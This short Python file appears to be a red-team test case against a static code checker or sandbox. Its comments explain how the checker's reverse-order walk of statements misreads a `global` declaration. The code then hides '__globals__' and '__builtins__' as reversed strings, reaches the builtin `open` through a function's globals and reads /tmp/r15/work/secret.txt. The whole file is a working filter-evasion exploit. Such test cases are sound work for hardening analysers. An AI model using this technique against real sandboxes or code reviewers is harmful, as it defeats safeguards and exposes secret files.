# family: red team, round 15 (scopes: nonlocal, name mangling, class bodies, global in blocks, getattr tables)
# Chain: generic handlers (visit.children) push a block's statements in order, so they are popped in REVERSE.
# Inside `if True:` the walk sees `k = ...` before `global k`, binds k in set_name()'s local scope, and the
# module's k seems bound only by `for k in ("name",)`. Python applies `global k` to the whole function, so
# set_name() rewrites the module's k to "__globals__" and getattr(helper, k) reads helper.__globals__.
def helper():
    return 1


def set_name():
    if True:
        global k
        k = "".join(reversed("__slabolg__"))


for k in ("name",):
    set_name()
    g = getattr(helper, k)

print(sorted(g.keys())[:6])
print(getattr(g["".join(reversed("__snitliub__"))], "open")("/tmp/r15/work/secret.txt").read())
